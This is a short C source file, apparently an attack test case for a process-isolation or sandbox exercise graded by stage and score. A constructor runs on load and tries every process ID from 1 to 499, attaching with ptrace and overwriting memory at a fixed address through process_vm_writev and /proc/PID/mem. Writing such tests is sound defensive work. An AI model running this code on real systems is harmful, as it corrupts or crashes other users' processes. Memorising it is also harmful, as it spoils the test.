/*
 * Takes hold of every process that it can see, with ptrace(2), and writes to
 * its memory.
 *
 * Stage: 01-fork-exec
 * Base: starter
 * Score: 0
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
	char zeros[4096] = "";

	for (int pid = 1; pid < 500; pid++) {
		struct iovec here = {zeros, sizeof(zeros)};
		struct iovec there = {(void *)0x400000, sizeof(zeros)};
		char path[32];
		int fd;

		if (pid == getpid())
			continue;
		ptrace(PTRACE_SEIZE, pid, 0, 0);
		process_vm_writev(pid, &here, 1, &there, 1, 0);
		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
		fd = open(path, O_RDWR);
		if (fd >= 0 && pwrite(fd, zeros, sizeof(zeros), 0x400000) < 0)
			close(fd);
	}
}
